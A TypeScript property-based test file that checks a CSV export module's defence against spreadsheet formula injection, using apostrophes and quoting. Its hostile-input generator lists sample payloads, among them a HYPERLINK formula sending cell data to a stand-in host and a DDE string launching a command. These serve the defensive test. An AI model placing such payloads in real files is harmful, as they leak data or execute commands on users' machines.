import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { CSV_START, csvLines, csvText, inertCell, type Cell } from './csv.ts';

const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'];

/** Text biased towards what a spreadsheet would run: a formula start, then anything, quotes and separators included. */
const hostileText = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.tuple(fc.constantFrom(...FORMULA_STARTS), fc.string({ unit: 'grapheme' })).map(([start, rest]) => start + rest),
  fc.constantFrom('=HYPERLINK("http://example.test/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1', "'=1"),
);
const anyCell: fc.Arbitrary<Cell> = fc.oneof(hostileText, fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true }), fc.constant(null), fc.constant(undefined));

describe('cells of every export', () => {
  it('never lets a text cell start with a formula character unquoted, and reads back as the text with an apostrophe before it', () => {
    fc.assert(
      fc.property(fc.array(fc.array(anyCell, { minLength: 1, maxLength: 6 }), { minLength: 1, maxLength: 5 }), (rows) => {
        const written = csvLines(rows);
        const records: string[][] = parse(written, { relax_column_count: true });
        expect(records).toHaveLength(rows.length);
        records.forEach((record, rowIndex) =>
          record.forEach((field, cellIndex) => {
            const cell = rows[rowIndex]![cellIndex];
            if (typeof cell === 'string') {
              expect(FORMULA_STARTS.includes(field.charAt(0))).toBe(false);
              expect(field).toBe(FORMULA_STARTS.includes(cell.charAt(0)) ? `'${cell}` : cell);
            } else expect(field).toBe(cell === null || cell === undefined ? '' : String(cell));
          }),
        );
      }),
      { numRuns: 500 },
    );
  });

  it('quotes every neutralised cell, as written, so no reader splits it before the apostrophe', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        const field = csvLines([[text]]).slice(0, -2);
        expect(FORMULA_STARTS.includes(field.charAt(0))).toBe(false);
        if (FORMULA_STARTS.includes(text.charAt(0))) expect(field.startsWith(`"'`)).toBe(true);
      }),
      { numRuns: 1000 },
    );
  });

  it('keeps numbers, negative ones too, as numbers, and neutralises the same text the same way for workbooks', () => {
    expect(csvLines([[-1250, 0, 3.5, '-1250', '=1+1', 'Ramesh', null]])).toBe(`-1250,0,3.5,"'-1250","'=1+1",Ramesh,\r\n`);
    expect(inertCell(-1250)).toBe(-1250);
    expect(inertCell('+cmd')).toBe("'+cmd");
    expect(inertCell('రమేష్')).toBe('రమేష్');
    expect(inertCell(null)).toBeNull();
    expect(csvText([['a']])).toBe(`${CSV_START}a\r\n`);
  });
});
